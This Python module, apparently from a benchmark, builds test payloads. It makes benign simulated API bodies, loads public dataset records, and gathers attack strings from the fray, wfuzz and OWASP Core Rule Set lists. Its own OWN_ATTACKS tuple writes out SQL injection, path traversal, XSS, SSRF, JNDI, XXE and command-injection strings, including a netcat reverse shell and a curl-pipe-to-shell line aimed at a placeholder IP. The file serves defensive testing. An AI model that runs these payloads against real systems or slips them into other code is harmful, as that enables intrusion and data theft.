"""Payloads for `shape`: benign ones, simulated and of public records, and attacks of public lists.

The records are those of the package `vega_datasets` (MIT): airports, cars, weather and prices. The attacks are the
payloads of the package `fray` (MIT), the injection lists of `wfuzz` (GPL-2), and the parameters of the regression tests
of the OWASP Core Rule Set (Apache-2.0). `python -m bench.public_sets` fetches them; what was not fetched is left out.
"""

from __future__ import annotations

import csv
import json
import re
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from importlib.util import find_spec
from pathlib import Path
from random import Random
from typing import Any, Final
from urllib.parse import parse_qsl

from bench.public_sets import CORE_RULE_SET, WFUZZ, package_folder

Body = dict[str, Any]
WFUZZ_FILES: Final = ("SQL.txt", "Traversal.txt", "XML.txt", "XSS.txt")
FRAY_FOLDERS: Final = (
    "auth_bypass", "command_injection", "crlf_injection", "deserialization", "ldap_injection", "open-redirect",
    "path_traversal", "prototype_pollution", "sqli", "ssrf", "ssti", "xpath_injection", "xss", "xxe",
)  # fmt: skip
TABLES: Final = ("airports.csv", "seattle-weather.csv", "sf-temps.csv", "stocks.csv")
CRS_RULES: Final = "REQUEST-9[34]*/*.yaml"  # attacks on applications; the others are on protocols
FREE_TEXT: Final = frozenset({"note", "bio", "text"})
BEGAN: Final = datetime(2027, 1, 1, tzinfo=UTC)

# ── Benign payloads ───────────────────────────────────────────────────────────────────────────

FIRST: Final = (
    "Ada Ben Chloé Dmitri Elena Femi Grace Hiro Inês José Kofi Lena Mary-Jane Noor Oscar Priya Zoë Jean".split()
)
LAST: Final = "O'Brien Müller Smith García Kowalski van~Dijk Nguyen Okafor Rossi D'Angelo Łuczak Lee Brown Ng".split()
STREETS: Final = (
    "Main~St. High~Street Rue~de~l'Église Königsallee Via~Roma 5th~Avenue Mill~Lane St.~Mary's~Road".split()
)
CITIES: Final = "Paris Köln Springfield St.~Louis New~York São~Paulo Kraków Winston-Salem L'Aquila Leeds".split()
WORDS: Final = (
    "please leave the parcel at door with neighbour if nobody home thanks order was late again but works fine now "
    "invoice number wrong customer wants refund before Friday account locked after update cannot log in report shows "
    "old data select another size drop it off union station or where you like from monday and call me"
).split()
ENDS: Final = (
    ".",
    ".",
    "!",
    "?",
    "...",
    " :)",
    " (thanks!)",
    ", OK?",
    " - Ada",
    "; see #4211",
    " & more",
    ' "asap"',
    "",
)


def spaced(text: str) -> str:
    return text.replace("~", " ")


def person(random: Random) -> str:
    return f"{random.choice(FIRST)} {spaced(random.choice(LAST))}"


def words(random: Random, low: int, high: int) -> str:
    return " ".join(random.choice(WORDS) for _ in range(random.randint(low, high)))


def prose(random: Random) -> str:
    """Return a text that a person could write, with links, quotes, and line breaks now and then."""
    parts = [words(random, 3, 14).capitalize() + random.choice(ENDS) for _ in range(random.randint(1, 4))]
    if random.random() < 0.1:
        parts.append(f"https://shop.example/items/{random.randrange(9_999)}?ref=mail")
    if random.random() < 0.1:
        parts.insert(0, "I don't know why, it's 100% new")
    return random.choice((" ", " ", "\n")).join(parts)


def address(random: Random) -> Body:
    return {
        "street": f"{random.randint(1, 400)} {spaced(random.choice(STREETS))}",
        "city": spaced(random.choice(CITIES)),
        "zip": f"{random.randrange(10_000, 99_999)}",
        "country": random.choice(("DE", "FR", "US", "BR", "PL")),
    }


def order(random: Random) -> Body:
    lines = tuple(
        {
            "sku": f"{random.choice('ABC')}-{random.randrange(1_000, 9_999)}",
            "quantity": random.randint(1, 12),
            "price": Decimal(random.randrange(99, 49_999)) / 100,
        }
        for _ in range(random.randint(1, 4))
    )
    made = {"customer": person(random), "email": email(random), "lines": lines, "ship_to": address(random)}
    return {**made, "note": prose(random)} if random.random() < 0.4 else made


def email(random: Random) -> str:
    return f"{random.choice(('ada', 'ben.k', 'zoe_1', 'm-j', 'info+shop'))}{random.randrange(99)}@mail.example"


def account(random: Random) -> Body:
    return {
        "display_name": person(random),
        "phone": f"+{random.randrange(10**10, 10**12)}",
        "language": random.choice(("en", "de", "pt-BR")),
        "bio": prose(random) if random.random() < 0.7 else None,
        "newsletter": random.random() < 0.5,
    }


def ticket(random: Random) -> Body:
    return {
        "subject": words(random, 2, 6).capitalize(),
        "text": prose(random),
        "priority": random.choice(("low", "normal", "high")),
        "tags": tuple(random.choices(("billing", "login", "bug", "how-to"), k=random.randint(0, 3))),
    }


def payment(random: Random) -> Body:
    return {
        "amount": Decimal(random.randrange(100, 999_999)) / 100,
        "currency": random.choice(("EUR", "USD", "PLN")),
        "iban": f"DE{random.randrange(10**19, 10**20)}",
        "reference": f"INV-{random.randrange(2020, 2028)}/{random.randrange(1, 9_999):04}",
        "due": (BEGAN + timedelta(days=random.randrange(300))).date().isoformat(),
    }


def query(random: Random) -> Body:
    return {
        "query": words(random, 1, 5),
        "limit": random.choice((10, 20, 50)),
        "page": random.randint(1, 30),
        "sort": random.choice(("price", "-price", "name")),
    }


SIMULATED: Final[dict[str, Callable[[Random], Body]]] = {
    "POST /orders": order, "PATCH /accounts/{id}": account, "POST /tickets": ticket, "POST /payments": payment,
    "POST /search": query,
}  # fmt: skip


def simulated(payloads: int) -> dict[str, list[Body]]:
    """Return so many payloads of each simulated endpoint."""
    return {
        endpoint: [make(random) for _ in range(payloads)]
        for endpoint, make in SIMULATED.items()
        for random in (Random(endpoint),)
    }


def public_records() -> dict[str, list[Body]]:
    """Return the records of each public table in an order drawn by a seed, if they are installed."""
    folder = package_folder("vega_datasets", "_data")
    if folder is None:
        return {}
    found = {name: list(read_table(folder / name)) for name in TABLES}
    found["cars.json"] = [with_decimals(row) for row in json.loads((folder / "cars.json").read_text(encoding="utf-8"))]
    for name, rows in found.items():
        Random(name).shuffle(rows)
    return {f"POST /{name}": rows for name, rows in found.items()}


def read_table(file: Path) -> Iterator[Body]:
    with file.open(encoding="utf-8-sig", newline="") as lines:
        for row in csv.DictReader(lines):
            yield {name: number_or_text(value) for name, value in row.items()}


def number_or_text(text: str) -> object:
    return Decimal(text) if re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) else text


def with_decimals(row: Body) -> Body:
    return {name: Decimal(str(value)) if isinstance(value, float) else value for name, value in row.items()}


# ── Attacks ───────────────────────────────────────────────────────────────────────────────────

OWN_ATTACKS: Final = (
    "' OR '1'='1", "1; DROP TABLE users--", "admin'--", "' UNION SELECT name, pass FROM users--", "1 AND SLEEP(5)#",
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc/shadow", "/etc/passwd\0.png",
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '"><svg/onload=confirm(1)>', "javascript:alert(1)//",
    "$(cat /etc/passwd)", "`id`", "; ls -la /", "| nc 198.51.100.7 4444 -e /bin/sh", "&& curl http://198.51.100.7|sh",
    "{{7*7}}", "${jndi:ldap://198.51.100.7/a}", "<%= system('id') %>", "#{7*7}", "*)(uid=*))(|(uid=*",
    "' or count(/*)>0 or '", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO", "\r\nSet-Cookie: a=b", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
    'O:8:"stdClass":1:{s:1:"a";i:1;}', '{"$ne": null}', "a" * 5_000,
)  # fmt: skip


def attack_lists() -> dict[str, list[str]]:
    """Return the payloads of each list, sorted, without repetitions."""
    found = {"own": OWN_ATTACKS, "fray": fray(), "wfuzz": wfuzz(), "crs": core_rule_set()}
    return {name: sorted(set(payloads) - {""}) for name, payloads in found.items() if payloads}


def fray() -> list[str]:
    folder = package_folder("fray", "payloads")
    files = [file for name in FRAY_FOLDERS for file in sorted((folder / name).glob("*.json"))] if folder else []
    return [payload for file in files for payload in fray_payloads(json.loads(file.read_text(encoding="utf-8")))]


def fray_payloads(content: Any) -> Iterator[str]:
    for entry in content.get("payloads", ()) if isinstance(content, dict) else content:
        payload = entry.get("payload") if isinstance(entry, dict) else entry
        if isinstance(payload, str):
            yield payload


def wfuzz() -> list[str]:
    files = [WFUZZ / name for name in WFUZZ_FILES if (WFUZZ / name).is_file()]
    return [line for file in files for line in file.read_text(encoding="utf-8", errors="replace").splitlines()]


def core_rule_set() -> list[str]:
    """Return the values of parameters that a rule of the Core Rule Set must find, from its tests."""
    if find_spec("yaml") is None:
        return []
    import yaml

    return [
        value
        for file in sorted(CORE_RULE_SET.glob(CRS_RULES))
        for test in yaml.safe_load(file.read_text(encoding="utf-8"))["tests"]
        for stage in test["stages"]
        if "log_contains" in stage["stage"]["output"]
        for value in parameters(stage["stage"]["input"])
    ]


def parameters(request: Body) -> Iterator[str]:
    data = request.get("data", "")
    body = "&".join(data) if isinstance(data, list) else str(data)
    for part in (str(request.get("uri", "")).partition("?")[2], "" if body.startswith(("<", "--", "{")) else body):
        yield from (value for _, value in parse_qsl(part))
